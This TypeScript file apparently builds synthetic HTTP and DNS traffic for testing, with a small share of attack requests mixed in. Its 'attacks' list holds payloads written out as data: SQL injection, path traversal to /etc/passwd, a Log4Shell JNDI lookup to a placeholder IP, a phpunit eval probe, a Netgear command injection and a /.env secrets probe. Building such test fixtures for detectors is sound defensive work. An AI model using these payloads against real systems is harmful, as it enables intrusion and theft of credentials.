// SPDX-License-Identifier: Apache-2.0
// Made-up traffic of a network with browsers, phones, tools and services: request heads and DNS questions, one in a hundred
// of which is an attack's. The same for the same seed.

import { query } from '../test/helpers/dns-bytes.js';

/** Numbers from 0 to below 1 (mulberry32). */
export function seeded(seed: number): () => number {
  let state = seed;
  return () => {
    state = (state + 0x6d2b79f5) | 0;
    let mixed = Math.imul(state ^ (state >>> 15), 1 | state);
    mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed)) ^ mixed;
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 2 ** 32;
  };
}

const browsers = [
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/1%d.0.0.0 Safari/537.36',
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/1%d.0.0.0 Safari/537.36 Edg/1%d.0.2592.81',
  'Mozilla/5.0 (X11; Linux x86_64; rv:1%d.0) Gecko/20100101 Firefox/1%d.0',
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.%d Safari/605.1.15',
  'Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Mobile/15E%d Safari/604.1',
  'Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/1%d.0.6478.71 Mobile Safari/537.36',
];
const tools = [
  'okhttp/4.%d.0',
  'Prometheus/2.%d.0',
  'kube-probe/1.%d',
  'containerd/1.7.%d',
  'Dalvik/2.1.0 (Linux; U; Android 14; Pixel 8 Build/UD1A.2311%d)',
  'aws-sdk-go-v2/1.%d.2 os/linux lang/go',
  'Microsoft-Delivery-Optimization/10.%d',
];
const attackers = ['sqlmap/1.%d#stable (https://sqlmap.org)', 'Nikto/2.5.%d', 'Mozilla/5.0 zgrab/0.x', 'masscan/1.%d'];

const words =
  'account album api app archive article assets basket blog build cart catalog category chat checkout comment contact content data ' +
  'detail download event export feed file filter gallery graph group help history home image index info invoice item job label latest ' +
  'library list login main map media member message metric news note object offer order page partner people photo player policy post ' +
  'price product profile project public query rating recent region release report request result review room route sale schedule search ' +
  'section select service session share shop site size sort source staff static stats status store stream style support table tag team ' +
  'theme thread ticket title topic track trend update upload user value version video view vote week widget work zone';
const names = words.split(' ');
const suffixes = ['com', 'com', 'com', 'net', 'org', 'io', 'de', 'co.uk', 'fr', 'internal'];
const files = ['js', 'css', 'png', 'jpg', 'svg', 'woff2', 'webp', 'json', 'html', 'php', 'aspx', ''];
const attacks = [
  '/index.php?id=1%27%20UNION%20SELECT%20user,password%20FROM%20users--',
  '/cgi-bin/../../../../etc/passwd',
  '/?x=${jndi:ldap://198.51.100.7/a}',
  '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php',
  '/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=busybox&curpath=/',
  '/.env',
];

export class TrafficMix {
  readonly #random: () => number;

  constructor(seed = 1) {
    this.#random = seeded(seed);
  }

  #below(count: number): number {
    return Math.floor(this.#random() * count);
  }

  #of(list: readonly string[]): string {
    return (list[this.#below(list.length)] ?? '').replaceAll('%d', () => String(10 + this.#below(30)));
  }

  #hex(length: number): string {
    return Array.from({ length }, () => this.#below(16).toString(16)).join('');
  }

  /** A host of the open net. */
  host(): string {
    const labels = [
      this.#of(['www', 'api', 'cdn', 'static', 'img', 'm', this.#hex(8)]),
      this.#of(names) + this.#of(names),
    ];
    return `${labels.slice(this.#below(2)).join('.')}.${this.#of(suffixes)}`;
  }

  #path(): string {
    const parts = Array.from({ length: 1 + this.#below(4) }, () =>
      this.#random() < 0.2 ? String(this.#below(1e6)) : this.#of(names),
    );
    const ending = this.#of(files);
    const path = `/${parts.join('/')}${ending && `.${this.#random() < 0.3 ? `${this.#hex(8)}.` : ''}${ending}`}`;
    const fields = this.#random() < 0.45 ? 1 + this.#below(6) : 0;
    if (fields === 0) return path;
    const query_ = Array.from({ length: fields }, () => {
      const value = [
        this.#of(names),
        this.#hex(16),
        String(this.#below(1e5)),
        `${this.#of(names)}%20${this.#of(names)}`,
      ];
      return `${this.#of(names)}=${value[this.#below(4)] ?? ''}`;
    });
    return `${path}?${query_.join('&')}`;
  }

  /** The header section of a request: values of cookies and credentials are masked, as the kernel hands them over. */
  head(): { readonly section: string; readonly attack: boolean } {
    const attack = this.#random() < 0.01;
    return { section: this.#section(attack), attack };
  }

  #section(attack: boolean): string {
    const host = this.host();
    const posts = this.#random() < 0.1;
    const [agents, path] = attack ? [attackers, this.#of(attacks)] : [undefined, this.#path()];
    const start = `${posts ? 'POST' : 'GET'} ${path} HTTP/1.1\r\nHost: ${host}\r\n`;
    const body = posts ? `Content-Type: application/json\r\nContent-Length: ${10 + this.#below(900)}\r\n` : '';
    if (agents ?? this.#random() < 0.25) {
      const key = this.#random() < 0.3 ? `Authorization: ${'*'.repeat(24 + this.#below(40))}\r\n` : '';
      return `${start}User-Agent: ${this.#of(agents ?? tools)}\r\nAccept: */*\r\n${key}${body}\r\n`;
    }
    const cookie = this.#random() < 0.6 ? `Cookie: ${'*'.repeat(20 + this.#below(300))}\r\n` : '';
    return (
      `${start}Connection: keep-alive\r\nUser-Agent: ${this.#of(browsers)}\r\n${body}` +
      'Accept: text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8\r\n' +
      (this.#random() < 0.7 ? `Referer: https://${host}${this.#path()}\r\n` : '') +
      `Accept-Encoding: gzip, deflate, br\r\nAccept-Language: ${this.#of(['en-GB,en;q=0.9', 'de-DE,de;q=0.9,en;q=0.8', 'fr'])}\r\n` +
      `Sec-Fetch-Site: same-origin\r\nSec-Fetch-Mode: no-cors\r\n${cookie}\r\n`
    );
  }

  /** A DNS message with one question. */
  question(): Buffer {
    const attack = this.#random() < 0.01;
    const name = attack
      ? `${this.#of(names)}${this.#hex(4)}.${this.#of(['top', 'xyz', 'duckdns.org', 'tk'])}`
      : this.host();
    return query(name, this.#random() < 0.4 ? 28 : 1, this.#below(65536));
  }
}
